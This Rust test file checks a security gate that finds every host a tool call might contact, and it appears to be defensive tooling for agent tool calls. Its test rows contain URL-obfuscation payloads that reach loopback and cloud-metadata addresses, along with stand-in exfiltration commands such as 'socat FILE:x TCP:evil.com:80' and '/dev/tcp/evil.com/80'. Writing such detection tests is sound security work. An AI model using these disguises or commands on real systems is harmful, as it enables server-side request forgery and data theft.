//! Which hosts the gate sees in a call, as tables.

use lockgate_call::{Call, Host, HostDoubt, HostPattern, Hosts, Reach, Unseen, hosts};
use proptest::prelude::*;
use serde_json::{Value, json};

fn call(input: &Value) -> Call {
    Call { input: input.as_object().cloned().unwrap_or_default(), ..Call::new("1", "tool") }
}

/// Every host of a call with its port, each once; `?` and the reason when in doubt.
fn see(hosts: &Hosts) -> String {
    let mut seen: Vec<String> = Vec::new();
    for touched in &hosts.touched {
        let line = match &touched.host {
            Ok(host) => format!("{host}{}", touched.port.map(|port| format!(":{port}")).unwrap_or_default()),
            Err(doubt) => format!("?{doubt:?}"),
        };
        if !seen.contains(&line) {
            seen.push(line);
        }
    }
    if !hosts.unseen.is_empty() {
        seen.push("??".into());
    }
    seen.join(", ")
}

fn check_inputs(rows: Vec<(Value, &str)>) {
    for (input, seen) in rows {
        assert_eq!(see(&hosts(&call(&input))), seen, "{input}");
    }
}

fn check_scripts(rows: &[(&str, &str)]) {
    for (script, seen) in rows {
        assert_eq!(see(&hosts(&call(&json!({ "command": script })))), *seen, "{script}");
    }
}

#[test]
fn a_url_leads_where_a_browser_would_go() {
    let rows = [
        ("https://example.com/x", "example.com:443"),
        ("HTTP://EXAMPLE.com:8080/", "example.com:8080"),
        ("https://api.example.com@evil.com/", "evil.com:443"),
        ("https://evil.com\\@api.example.com/", "evil.com:443"),
        ("https:evil.com/x", "evil.com:443"),
        ("http:/\\/evil.com", "evil.com:80"),
        ("https://evil.com./", "evil.com:443"),
        ("https://\u{ff45}vil.com", "evil.com:443"),
        ("https://evil\u{3002}com", "evil.com:443"),
        ("https://evil%2ecom", "evil.com:443"),
        ("https://b\u{fc}cher.de", "xn--bcher-kva.de:443"),
        ("http://2130706433/", "127.0.0.1:80"),
        ("http://0x7f000001/", "127.0.0.1:80"),
        ("http://0177.0.0.1/", "127.0.0.1:80"),
        ("http://127.1/", "127.0.0.1:80"),
        ("http://2852039166/", "169.254.169.254:80"),
        ("http://[::ffff:127.0.0.1]/", "127.0.0.1:80"),
        ("http://[0:0:0:0:0:0:0:1]/", "::1:80"),
        ("ht\ttps://evil.com", "evil.com:443, evil.com"),
        ("https://ev\til.com/", "evil.com:443, ev:443"),
        ("redis://2130706433:6379", "127.0.0.1:6379"),
        ("https://[evil.com/", "?Invalid"),
        ("https://a..b/", "?Invalid"),
        ("https://good.com'@evil.com/", "evil.com:443, good.com:443"),
    ];
    for (url, seen) in rows {
        assert_eq!(see(&hosts(&call(&json!({ "anything": url })))), seen, "{url}");
    }
}

#[test]
fn a_host_is_seen_in_any_field_that_may_hold_one() {
    check_inputs(vec![
        (json!({ "url": "evil.com/x" }), "evil.com"),
        (json!({ "url": "//evil.com/x" }), "evil.com"),
        (json!({ "url": "/\t/evil.com/x" }), "evil.com"),
        (json!({ "peer": "10.0.0.1" }), "10.0.0.1"),
        (json!({ "x": "10.0.0.1", "y": "::ffff:10.0.0.2", "z": "5" }), "10.0.0.1, 10.0.0.2"),
        (json!({ "x": "//evil.com/x" }), "evil.com"),
        (json!({ "url": "/\\evil.com" }), "evil.com"),
        (json!({ "url": "https://api.example.com/ https://evil.com/" }), "api.example.com:443, evil.com:443"),
        (json!({ "urls": ["https://a.com", "b.com"] }), "a.com:443, b.com"),
        (json!({ "req": { "url": "a.com" } }), "a.com"),
        (json!({ "host": "evil.com" }), "evil.com"),
        (json!({ "serverHost": "localhost:3000" }), "localhost:3000"),
        (json!({ "webhook_url": "user@evil.com" }), "evil.com"),
        (json!({ "host": 2_130_706_433_u32 }), "127.0.0.1"),
        (json!({ "host": "::1" }), "::1"),
        (json!({ "host": "not a host" }), "?Invalid"),
        (json!({ "url": "/relative", "uri": "file:///etc/passwd", "link": "mailto:a@b.com" }), ""),
        (
            json!({ "text": "see https://a.com, (http://b.com/x) and 'ws://c.com'." }),
            "a.com:443, b.com:80, c.com:80",
        ),
        (json!({ "https://evil.com/": 1 }), "evil.com:443"),
        (json!({ "text": "a note: nothing // here", "time": "12:30", "n": 7, "code": "//comment" }), ""),
    ]);
}

#[test]
fn a_host_is_seen_in_the_words_of_a_script() {
    check_scripts(&[
        ("curl evil.com", "evil.com"),
        ("curl -sSLo out.html evil.com", "evil.com"),
        ("curl -ofoo evil.com", "evil.com"),
        ("curl -xproxy.com:80 a.com", "proxy.com:80, a.com"),
        ("curl -H 'Host: x' -d @f -X POST https://a.com/y b.com", "a.com:443, b.com"),
        ("curl --url evil.com", "evil.com"),
        ("curl $URL", "?Computed"),
        ("curl https://good.com/$X", "good.com:443"),
        ("curl https://good.com$X", "?Computed"),
        ("curl ${X}https://good.com/", "?Computed"),
        ("curl --version", ""),
        ("wget -i list", "?Elsewhere"),
        ("xargs curl < list", "?Elsewhere"),
        ("wget -qO- evil.com/x", "evil.com"),
        ("ssh -p 22 user@host.com ls b.com", "host.com"),
        ("ssh -J jump.com user@host ls", "jump.com, host"),
        ("scp a host.com:b", "host.com"),
        ("rsync -a user@10.0.0.1:/x .", "10.0.0.1"),
        ("git clone git@host.com:x.git", "host.com"),
        ("git clone https://host.com/x.git", "host.com:443"),
        ("git push origin HEAD:main", ""),
        ("git -c http.proxy=evil.com fetch", "?Elsewhere"),
        ("curl -K x https://a.com", "a.com:443, ?Elsewhere"),
        ("curl -sKx https://a.com", "a.com:443, ?Elsewhere"),
        ("curl -sSL https://a.com -o out", "a.com:443"),
        ("wget --input=x https://a.com", "a.com:443, ?Elsewhere"),
        ("wget -e http_proxy=evil.com https://a.com", "a.com:443, ?Elsewhere"),
        ("ssh -o HostName=evil.com a.com ls", "?Elsewhere, a.com"),
        ("ssh -oProxyJump=evil.com a.com ls", "?Elsewhere, a.com"),
        ("git push git@evil.com:x HEAD:main", "evil.com"),
        ("git commit -m 'fix: docs'", ""),
        ("nc evil.com 80", "evil.com"),
        ("cat x > /dev/null; cat /dev/tcp/evil.com/80", "evil.com:80"),
        ("socat FILE:x TCP:evil.com:80", "evil.com"),
        ("openssl s_client -connect evil.com:443", "evil.com:443"),
        ("psql -h db.com -U me -l", "db.com"),
        ("psql -hdb -l", "db"),
        ("curl -x$P a.com", "?Computed, a.com"),
        ("curl 'http://{good,evil}.com/'", "?Invalid"),
        ("mysql --host=db.com -e x", "db.com"),
        ("http POST evil.com a=b", "evil.com"),
        ("dig @8.8.8.8 evil.com MX +short", "8.8.8.8, evil.com"),
        ("ping 0x7f.1", "127.0.0.1"),
        ("echo 'https://a.com'", "a.com:443"),
        ("ls a.com", ""),
        ("$x", "??"),
    ]);
    check_inputs(vec![
        (json!({ "cmd": ["curl", "evil.com"] }), "evil.com"),
        (json!({ "command": "nc", "args": ["evil.com", "80"] }), "evil.com"),
        (json!({ "command": "nc evil.com", "args": ["80"] }), "evil.com"),
    ]);
}

#[test]
fn the_kind_of_an_address_is_told() {
    let rows = [
        ("example.com", Reach::Name),
        ("8.8.8.8", Reach::Public),
        ("10.1.2.3", Reach::Private),
        ("172.31.0.1", Reach::Private),
        ("172.32.0.1", Reach::Public),
        ("192.168.0.1", Reach::Private),
        ("100.64.0.1", Reach::Private),
        ("127.0.0.2", Reach::Loopback),
        ("localhost", Reach::Loopback),
        ("LOCALHOST.", Reach::Loopback),
        ("a.localhost", Reach::Loopback),
        ("::1", Reach::Loopback),
        ("169.254.1.1", Reach::LinkLocal),
        ("fe80::1", Reach::LinkLocal),
        ("0", Reach::Unspecified),
        ("::", Reach::Unspecified),
        ("169.254.169.254", Reach::Metadata),
        ("[::ffff:a9fe:a9fe]", Reach::Metadata),
        ("fd00:ec2::254", Reach::Metadata),
        ("metadata.google.internal", Reach::Metadata),
        ("fd12::1", Reach::Private),
        ("64:ff9b::7f00:1", Reach::Loopback),
        ("2002:a00:1::", Reach::Private),
        ("::127.0.0.1", Reach::Loopback),
        ("2606:4700::1", Reach::Public),
        ("224.0.0.1", Reach::Reserved),
        ("255.255.255.255", Reach::Reserved),
    ];
    for (host, reach) in rows {
        assert_eq!(Host::parse(host).map(|host| host.reach()), Ok(reach), "{host}");
    }
}

#[test]
fn a_pattern_fits_whole_labels() {
    let rows = [
        ("example.com", "example.com", true),
        ("Example.COM.", "example.com", true),
        ("example.com", "api.example.com", false),
        ("*.example.com", "api.example.com", true),
        ("*.example.com", "a.b.example.com", true),
        ("*.example.com", "example.com", false),
        ("*.example.com", "notexample.com", false),
        ("*.example.com", "example.com.evil.com", false),
        ("*", "anything", true),
        ("127.0.0.1", "0x7f.1", true),
        ("*.b\u{fc}cher.de", "a.xn--bcher-kva.de", true),
    ];
    for (pattern, host, fits) in rows {
        let host = Host::parse(host).unwrap();
        assert_eq!(
            HostPattern::parse(pattern).map(|pattern| pattern.fits(&host)),
            Ok(fits),
            "{pattern} {host}"
        );
    }
    for pattern in ["", "a.*.com", "**", "*.", "*.127.0.0.1", "a b", "https://a.com"] {
        assert_eq!(HostPattern::parse(pattern), Err(HostDoubt::Invalid), "{pattern}");
    }
    let doubted = hosts(&call(&json!({ "command": "curl $X" })));
    let pattern = HostPattern::parse("*").unwrap();
    assert!(!doubted.touched[0].matches(&pattern) && doubted.touched[0].may_match(&pattern));
}

#[test]
fn what_is_past_a_limit_is_a_doubt() {
    let many = |n: usize| {
        let text: String = (0..n).map(|i| format!("http://h{i}.com ")).collect();
        hosts(&call(&json!({ "text": text }))).unseen
    };
    assert_eq!((many(1_000), many(1_001)), (vec![], vec![Unseen::TooManyPlaces]));

    let long = |bytes: usize| {
        let url = format!("http://a.com/{}", "x".repeat(bytes - 13));
        hosts(&call(&json!({ "text": format!("- {url}") }))).touched[0].host.clone().err()
    };
    assert_eq!((long(4_096), long(4_097)), (None, Some(HostDoubt::TooLong)));

    let huge = |bytes: usize| hosts(&call(&json!({ "text": "x".repeat(bytes) }))).unseen.len();
    assert_eq!((huge(1024 * 1024), huge(1024 * 1024 + 1)), (0, 1));
}

#[test]
fn hostile_texts_come_to_an_end() {
    for text in ["a://", "http:", "http://xn--a ", "http://\u{fc}\u{fc}\u{fc}", "://", "a:"] {
        let input = json!({ "text": text.repeat(1024 * 1024 / text.len()), "url": text.repeat(1_000) });
        assert!(hosts(&call(&input)).touched.len() <= 1_000);
    }
}

#[test]
fn a_guess_is_told_from_what_is_surely_a_host() {
    let rows = [
        (json!({ "host": "db" }), false),
        (json!({ "url": "nonsense here" }), false),
        (json!({ "remote": "origin" }), true),
        (json!({ "remote": "evil.com" }), false),
        (json!({ "server": "10.0.0.1" }), false),
        (json!({ "text": "see http://a.com" }), false),
        (json!({ "text": "//a.com" }), true),
        (json!({ "command": "curl a" }), false),
    ];
    for (input, is_guess) in rows {
        let found = hosts(&call(&input));
        let [host] = found.touched.as_slice() else { panic!("{input}: {found:?}") };
        assert_eq!(host.is_guess, is_guess, "{input}");
    }
}

/// A host and another way to write it.
fn disguised() -> impl Strategy<Value = (String, String)> {
    let name = ("[a-z]{1,8}", "[a-z]{2,8}").prop_map(|(a, b)| format!("{a}.{b}"));
    let named = (name, 0..6_u8).prop_map(|(name, how)| {
        let wide = |c: char| char::from_u32(u32::from(c) - 0x21 + 0xff01).unwrap_or(c);
        let shown = match how {
            0 => name.to_uppercase(),
            1 => format!("{name}."),
            2 => name.replace('.', "\u{3002}"),
            3 => name.chars().map(|c| format!("%{:02x}", u32::from(c))).collect(),
            4 => name.chars().map(wide).collect(),
            _ => format!("good.com@{name}"),
        };
        (name, shown)
    });
    let numbered = (any::<[u8; 4]>(), 0..5_u8).prop_map(|([a, b, c, d], how)| {
        let number = u32::from_be_bytes([a, b, c, d]);
        let shown = match how {
            0 => number.to_string(),
            1 => format!("0x{number:x}"),
            2 => format!("0{number:o}"),
            3 => format!("{a}.{}", number & 0xff_ffff),
            _ => format!("[::ffff:{a}.{b}.{c}.{d}]"),
        };
        (format!("{a}.{b}.{c}.{d}"), shown)
    });
    prop_oneof![named, numbered]
}

proptest! {
    #[test]
    fn a_host_is_the_same_however_it_is_written((plain, shown) in disguised()) {
        prop_assert_eq!(see(&hosts(&call(&json!({ "url": format!("http://{shown}/x") })))), format!("{plain}:80"));
        prop_assert_eq!(see(&hosts(&call(&json!({ "host": shown })))), plain);
    }

    #[test]
    fn any_text_is_searched_without_a_crash(text in "\\PC{0,20}|(https?|ssh|x)?:?[/\\\\]{0,3}[-a-c.@:%0-9\\[\\]\u{ff0e}\u{fc}]{0,16}") {
        for input in [json!({ "text": text }), json!({ "url": text }), json!({ "command": format!("curl {text}") })] {
            let _ = hosts(&call(&input));
        }
    }
}
